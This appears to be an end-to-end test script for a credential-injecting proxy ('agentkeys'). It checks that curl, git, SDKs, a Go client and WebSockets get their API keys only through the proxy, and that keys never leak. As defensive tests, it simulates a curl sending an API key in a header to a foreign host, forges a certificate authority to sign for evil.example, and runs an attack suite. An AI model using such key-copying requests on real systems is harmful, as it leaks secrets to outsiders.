#!/usr/bin/env bash
# Journey 7: programs that read no address use keys that they never get, by the run's proxy: curl, git,
# requests, fetch, the official SDKs, a Go program, WebSockets, unchanged; and what an attacker would
# try does not work.
if [ -z "${PROXY_FLOW:-}" ]; then
    # Names that lead to this machine, in a file system that nobody else sees; and processes that end
    # with the flow, whatever becomes of it.
    enter=(--mount --pid --fork --mount-proc --kill-child)
    [ "$(id -u)" -eq 0 ] || enter+=(--user --map-auto --map-root-user)
    PROXY_FLOW=1 exec unshare "${enter[@]}" "$0" "$@"
fi
. "$(dirname "$0")/lib/common.sh"
tools=$here/target/test-tools
lib=$here/tests/e2e/lib
node=$tools/node-with-proxy/node_modules/node/bin/node
openai_key=sk-real-0123456789abcdefghijklmnop
anthropic_key=sk-ant-real/0123456789+abcdefghij
github_key=ghp_real0123456789abcdefghijklmnopqrst
socket_key=sk-socket-0123456789abcdefghij
own_key='my own key: not-like-the-others'
# What somebody had set is tried below by itself.
unset SSL_CERT_FILE SSL_CERT_DIR CURL_CA_BUNDLE REQUESTS_CA_BUNDLE NODE_EXTRA_CA_CERTS GIT_SSL_CAINFO PIP_CERT
unset "${!HTTP@}" "${!http@}" "${!ALL_@}" NO_PROXY no_proxy all_proxy

say "Services over TLS, and a backend that is told where they are"
{ cat /etc/hosts; printf '127.0.0.1 own.example other.example services.example\n'; } >"$home/hosts"
mount --bind "$home/hosts" /etc/hosts
authority() {
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -noenc -days 2 -subj "/CN=$1" \
        -keyout "$home/$1.key" -out "$home/$1.pem" 2>/dev/null
}
authority test-authority
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -noenc -days 2 -subj "/CN=service" \
    -addext "subjectAltName=IP:127.0.0.1,DNS:own.example,DNS:other.example,DNS:services.example" -addext basicConstraints=critical,CA:FALSE \
    -CA "$home/test-authority.pem" -CAkey "$home/test-authority.key" -keyout "$home/service.key" -out "$home/service.pem" 2>/dev/null
port_of() { sed -n 's/^listening //p' "$1"; }
python3 "$lib/upstream.py" "$home/service.pem" "$home/service.key" "$home/got" >"$home/upstream" &
upstream=$!
mkdir "$home/repositories"
git init -q --bare "$home/repositories/private.git"
git -C "$home/repositories/private.git" config http.receivepack true
python3 "$lib/git_service.py" "$home/service.pem" "$home/service.key" "$home/got-by-git" "$home/repositories" "$github_key" >"$home/git-service" &
git_service=$!
"$tools/sdk-python/bin/python" "$lib/websocket_service.py" "$home/service.pem" "$home/service.key" "$home/got-by-sockets" >"$home/socket-service" &
socket_service=$!
within 10 grep -q listening "$home/upstream"
within 10 grep -q listening "$home/socket-service"
within 10 grep -q listening "$home/git-service"
port=$(port_of "$home/upstream")
own=https://own.example:$port
sockets=own.example:$(port_of "$home/socket-service")
mkdir -m 700 "$home/run"
SSL_CERT_FILE=$home/test-authority.pem "$AGENTKEYS" serve --listen "unix:$home/run/s" --data "$home/data" \
    --service "openai=https://services.example:$port" --service "anthropic=https://services.example:$port" \
    --service "github=https://services.example:$(port_of "$home/git-service")" --service "my-api=$own,header=X-Own" \
    --service "sockets=https://$sockets" \
    2>>"$home/serve.log" >"$home/ready" &
backend=$!
within 10 grep -q '^listening' "$home/ready"
export AGENTKEYS_BACKEND=unix:$home/run/s
on_exit() {
    local code=$?
    kill "$upstream" "$git_service" "$socket_service" "$backend" 2>/dev/null || true
    finish "$code"
}
trap on_exit EXIT
agentkeys init >/dev/null 2>&1
store() { printf '%s' "$2" | agentkeys store my-agent "$1" - >/dev/null 2>&1; }
store openai "$openai_key"
store anthropic "$anthropic_key"
store github "$github_key"
store my-api "$own_key"
store sockets "$socket_key"
export OWN=$own
# By the proxy alone: no address is left in the environment.
proxied() {
    agentkeys run --proxy "${how[@]}" my-agent -- env -u OPENAI_BASE_URL -u ANTHROPIC_BASE_URL -u GITHUB_BASE_URL \
        -u MY_API_BASE_URL -u SOCKETS_BASE_URL "$@"
}
how=()
got() { cat "$home/got" "$home/got-by-git" 2>/dev/null | wc -l; }
status() { proxied curl -s -o "$home/answer" -w '%{http_code}' --max-time 20 "$@"; }

say "curl, over HTTP/2 and HTTP/1.1, with the stand-in and without a word"
expect "200 2" proxied curl -s -o /dev/null -w '%{http_code} %{http_version}' https://api.openai.com/v1/models
expect "200 1.1" proxied curl -s --http1.1 -o /dev/null -w '%{http_code} %{http_version}' https://api.openai.com/v1/models
expect 200 proxied sh -c 'curl -s -o /dev/null -w "%{http_code}" https://api.openai.com/v1/models -H "Authorization: Bearer $OPENAI_API_KEY"'
expect 200 proxied sh -c 'curl -s -o /dev/null -w "%{http_code}" "$OWN/plain" -H "X-Own: $MY_API_API_KEY"'
expect 200 status -X POST --data-binary @"$AGENTKEYS" "$own/large"
contains "$(cat "$home/answer")" "\"bytes\": $(stat -Lc %s "$AGENTKEYS")"
expect 100 proxied sh -c 'seq 100 | sed "s,.*,url = https://api.openai.com/v1/models/&\noutput = /dev/null," >"$HOME/many"
    curl -sZ --parallel-max 100 -K "$HOME/many" -w "%{http_code}\n" | grep -c 200'

say "The official SDKs, requests and fetch, unchanged"
proxied "$tools/sdk-python/bin/python" "$lib/proxied_client.py"
proxied "$node" "$lib/proxied_client.mjs" "$tools"

say "A Go program"
CGO_ENABLED=0 GOFLAGS=-mod=mod GOCACHE=$home/go-cache go build -o "$home/go-client" "$lib/proxied_client.go"
contains "$(proxied "$home/go-client" https://api.openai.com/v1/models)" '200 HTTP/2.0 {"method": "GET", "path": "/v1/models"'

say "git clones and pushes over HTTPS, with a token that it never has"
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@example.org GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@example.org GIT_TERMINAL_PROMPT=0
proxied git clone -q https://github.com/private.git "$home/clone" 2>/dev/null
head -c 3000000 /dev/urandom >"$home/clone/file"
git -C "$home/clone" add file
git -C "$home/clone" commit -qm one
proxied git -C "$home/clone" push -q origin HEAD:main
proxied git clone -q -b main https://github.com/private.git "$home/again"
expect "" cmp "$home/clone/file" "$home/again/file"
# As many write it: the token in the address.
proxied sh -c 'git ls-remote "https://x-access-token:$GITHUB_TOKEN@github.com/private.git"' >"$home/refs"
contains "$(cat "$home/refs")" refs/heads/main
# With it from the first request on, in one way, and nothing else of a credential.
python3 - "$home/got-by-git" "$(printf 'x-access-token:%s' "$github_key" | base64 -w0)" <<'END'
import json, sys
for line in open(sys.argv[1]):
    headers = [(name.lower(), value) for name, value in json.loads(line)["headers"]]
    assert [value for name, value in headers if name == "authorization"] == [f"Basic {sys.argv[2]}"], headers
END
agentkeys rule my-agent github --deny 'POST /*/git-receive-pack' >/dev/null
git -C "$home/clone" commit -q --allow-empty -m two
expect_exit 1 proxied git -C "$home/clone" push -q origin HEAD:main
proxied git -C "$home/clone" fetch -q
agentkeys rule my-agent github --clear >/dev/null

say "WebSockets, by the proxy and by a base URL, and no key that the service shows"
proxied sh -c 'exec "$0" "$1" "wss://$2" "$SOCKETS_API_KEY"' "$tools/sdk-python/bin/python" "$lib/websocket_client.py" "$sockets"
for how in --broker --proxy; do
    agentkeys run "$how" my-agent -- sh -c 'exec "$0" "$1" "ws${SOCKETS_BASE_URL#http}" "$SOCKETS_API_KEY"' \
        "$tools/sdk-python/bin/python" "$lib/websocket_client.py"
done
how=()
python3 - "$home/got-by-sockets" "$socket_key" <<'END'
import json, sys
lines = [json.loads(line) for line in open(sys.argv[1])]
for got in (line for line in lines if "path" in line):
    headers = [(name.lower(), value) for name, value in got["headers"]]
    assert headers.count(("authorization", f"Bearer {sys.argv[2]}")) == 1, headers
    assert json.dumps(got).count(sys.argv[2]) == 1 and "sec-websocket-extensions" not in dict(headers), headers
print("ok:", len(lines), "sockets")
END

say "Each service got its key once, in its place, and no stand-in"
python3 - "$home/got" "$openai_key" "$anthropic_key" "$own_key" <<'END'
import json, sys
openai, anthropic, own = sys.argv[2:]
count = 0
for line in open(sys.argv[1]):
    got = json.loads(line)
    headers = [(name.lower(), value) for name, value in got["headers"]]
    keys = {"/v1/chat/completions": ("authorization", f"Bearer {openai}"), "/v1/messages": ("x-api-key", anthropic),
            "/upload?a=b": ("x-own", own), "/plain": ("x-own", own), "/large": ("x-own", own)}
    wanted = keys.get(got["path"], ("authorization", f"Bearer {openai}"))
    assert headers.count(wanted) == 1, (got["path"], headers)
    everything = json.dumps(got)
    for key in (openai, anthropic, own):
        assert everything.count(key) == (key in wanted[1]), got
    others = [name for name, _ in headers if name in ("authorization", "x-api-key", "x-own") and name != wanted[0]]
    assert not others and not any(name.startswith("proxy") for name, _ in headers), headers
    count += 1
print("ok:", count, "requests")
END

say "Neither the program nor what stands beside it has a key anywhere, and no key of the run's is in a file"
proxied sh -c 'curl -s https://api.openai.com/v1/models >/dev/null
    printf %s "$SSL_CERT_FILE" >"$HOME/bundle"; echo $$ >"$HOME/program"; echo $PPID >"$HOME/relay"
    cat "$SSL_CERT_FILE" "$NODE_EXTRA_CA_CERTS" >"$HOME/certificates"; cp "$NODE_EXTRA_CA_CERTS" "$HOME/run-authority.pem"; sleep 600' &
beside=$!
within 10 test -s "$home/run-authority.pem"
within 10 test -s "$home/relay"
for key in "$openai_key" "$anthropic_key" "$github_key" "$own_key" "$socket_key" "$(printf 'x-access-token:%s' "$github_key" | base64 -w0)"; do
    for who in program relay; do
        printf '%s' "$key" | python3 "$lib/find_in_memory.py" "$(cat "$home/$who")"
    done
    expect_exit 1 grep -rqF "$key" "$home" --include='*' --exclude='got*' --exclude-dir=repositories
done
expect_exit 1 grep -rq "PRIVATE KEY" "$(dirname "$(cat "$home/bundle")")" "$home/certificates"

say "The run's authority signs for its hosts and no other, and is another in each run"
openssl x509 -in "$home/run-authority.pem" -noout -ext nameConstraints,basicConstraints >"$home/says"
contains "$(cat "$home/says")" "DNS:api.openai.com"
contains "$(cat "$home/says")" "CA:TRUE, pathlen:0"
# As if somebody had its key: the same constraints under a key of our own, and a certificate for another host.
constraints=$(grep -oE '(DNS|IP):[^ ,]+' "$home/says" | grep DNS | sed 's/^/permitted;/' | paste -sd,)
for pair in api.openai.com:0 evil.example:2; do
    host=${pair%:*}
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -noenc -days 2 -subj /CN=stolen -addext "nameConstraints=critical,$constraints" \
        -keyout "$home/stolen.key" -out "$home/stolen.pem" 2>/dev/null
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -noenc -days 2 -subj /CN=x -addext "subjectAltName=DNS:$host" \
        -addext basicConstraints=critical,CA:FALSE -CA "$home/stolen.pem" -CAkey "$home/stolen.key" -keyout /dev/null -out "$home/forged.pem" 2>/dev/null
    expect_exit "${pair#*:}" openssl verify -CAfile "$home/stolen.pem" "$home/forged.pem"
done
proxied sh -c 'cp "$NODE_EXTRA_CA_CERTS" "$HOME/another-authority.pem"'
expect_exit 1 cmp "$home/run-authority.pem" "$home/another-authority.pem"

say "With the run its lists of certificates are gone"
test -s "$(cat "$home/bundle")"
kill "$(cat "$home/program")"
wait "$beside" || true
expect_exit 1 test -e "$(dirname "$(cat "$home/bundle")")"

say "What was trusted before is trusted still, and nothing more"
authority corporate
count() { grep -c BEGIN "$1"; }
expect "$(($(count /etc/ssl/certs/ca-certificates.crt) + 1))" proxied sh -c 'grep -c BEGIN "$SSL_CERT_FILE"'
expect 2 env CURL_CA_BUNDLE="$home/corporate.pem" "$AGENTKEYS" run --proxy my-agent -- sh -c 'grep -c BEGIN "$CURL_CA_BUNDLE"'
expect 2 env NODE_EXTRA_CA_CERTS="$home/corporate.pem" "$AGENTKEYS" run --proxy my-agent -- sh -c 'grep -c BEGIN "$NODE_EXTRA_CA_CERTS"'
expect 1 proxied sh -c 'grep -c BEGIN "$NODE_EXTRA_CA_CERTS"'
cat "$home/corporate.pem" "$home/corporate.key" >"$home/both.pem"
expect_exit 1 env SSL_CERT_FILE="$home/both.pem" "$AGENTKEYS" run --proxy my-agent -- sh -c 'grep PRIVATE "$SSL_CERT_FILE"'
expect 200 env NO_PROXY='*,api.openai.com,.example' "$AGENTKEYS" run --proxy my-agent -- \
    curl -s -o /dev/null -w '%{http_code}' https://api.openai.com/v1/models

say "Other hosts are reached unseen, or not at all under --strict"
before=$(got)
# The service's own certificate, and not one of the run's.
expect 200 proxied curl -s -o /dev/null -w '%{http_code}' --cacert "$home/test-authority.pem" "https://other.example:$port/elsewhere-seen"
contains "$(tail -n 1 "$home/got")" '"path": "/elsewhere-seen"'
expect 1 sh -c "tail -n 1 $home/got | grep -vc -e authorization -e x-own"
printf 'plain words\n' >"$home/page"
(cd "$home" && exec python3 -m http.server --bind 127.0.0.1 0 >"$home/plain" 2>&1) &
plain=$!
within 10 grep -q 'port [0-9]' "$home/plain"
plain_port=$(grep -o 'port [0-9]*' "$home/plain" | cut -c6-)
expect "plain words" proxied curl -s "http://other.example:$plain_port/page"
expect 403 proxied sh -c 'curl -s -o /dev/null -w "%{http_code}" "$0" -H "X-Copy: $OPENAI_API_KEY"' "http://other.example:$plain_port/page"
how=(--strict)
expect_exit 56 proxied curl -s --cacert "$home/test-authority.pem" "https://other.example:$port/"
contains "$error" "refused a connection to other.example:$port"
expect 403 status "http://other.example:$plain_port/page"
contains "$(cat "$home/answer")" "is no host of this run's services"
expect 200 status https://api.openai.com/v1/models
how=()

say "A program with a list of its own does not believe the proxy, and somebody is told"
expect_exit 60 proxied curl -s --cacert /etc/ssl/certs/ca-certificates.crt --capath /nowhere https://api.openai.com/v1/models
contains "$error" "does not believe this run's certificate for api.openai.com"

say "Without keys it is a proxy like any other"
agentkeys run --proxy --only my-agent -- curl -s -o /dev/null --cacert "$home/test-authority.pem" "https://other.example:$port/plain-proxy"
contains "$(tail -n 1 "$home/got")" '"path": "/plain-proxy"'

say "Plain HTTP to a service is refused, and says what to do"
expect 403 status http://api.openai.com/v1/models
contains "$(cat "$home/answer")" "use https://api.openai.com"
expect 403 status --http2 -H "Host: api.anthropic.com" https://api.openai.com/v1/models
contains "$(cat "$home/answer")" "for another host than its connection"
expect 403 proxied sh -c 'curl -s -o /dev/null -w "%{http_code}" https://api.openai.com/v1/models -H "Authorization: Bearer $ANTHROPIC_API_KEY"'

say "Attacks"
proxied sh -c 'exec python3 "$0" "$HOME/got"' "$lib/proxy_attacks.py" >"$home/attacks" 2>"$home/said"
cat "$home/attacks"
expect "" sh -c "grep -v ': held\$' $home/attacks || true"
contains "$(cat "$home/said")" "with the placeholder of anthropic"

say "In the closed room the proxy leads to the services, and nowhere else"
mkdir "$home/project"
cd "$home/project"
how=(--sandbox)
expect 200 proxied curl -s -o /dev/null -w '%{http_code}' https://api.openai.com/v1/models
expect_exit 56 proxied curl -s "https://other.example:$port/"
expect_exit 56 proxied curl -s --noproxy "" "https://127.0.0.1:$plain_port/"
cd "$home"
how=()

say "Revoked in the middle of a stream and of a WebSocket"
cat >"$home/ticks.py" <<'END'
import sys
from websockets.sync.client import connect
with connect(f"wss://{sys.argv[1]}/ticks") as socket:
    for _ in socket:
        open(sys.argv[2], "a").write("tick\n")
END
proxied sh -c '"$0" "$HOME/ticks.py" "$1" "$HOME/ticks" 2>/dev/null; date +%s.%N >"$HOME/socket-ended"' "$tools/sdk-python/bin/python" "$sockets" &
on_socket=$!
within 20 grep -qs tick "$home/ticks"
proxied sh -c 'curl -sN https://api.openai.com/stream >"$HOME/stream"; date +%s.%N >"$HOME/ended"' &
beside=$!
within 20 grep -qs tick "$home/stream"
asked=$(date +%s.%N)
agentkeys revoke my-agent >/dev/null 2>&1
wait "$beside" || true
wait "$on_socket" || true
python3 - "$asked" "$(cat "$home/ended")" "$(cat "$home/socket-ended")" <<'END'
import sys
asked, *ended = map(float, sys.argv[1:])
took = [moment - asked for moment in ended]
assert max(took) < 1, took
print("ok: ended", *(f"{one * 1000:.0f} ms" for one in took), "after revoke was typed")
END
within 3 grep -q ended "$home/got-by-sockets"
kill "$plain"
